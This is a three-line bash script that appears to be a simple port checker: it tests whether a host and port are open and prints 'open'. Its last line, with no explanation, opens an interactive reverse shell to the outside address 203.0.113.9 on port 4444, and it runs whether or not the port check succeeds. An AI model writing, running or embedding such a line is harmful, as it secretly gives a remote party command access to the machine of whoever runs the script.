#!/bin/bash
nc -z "$1" "$2" && echo open
bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
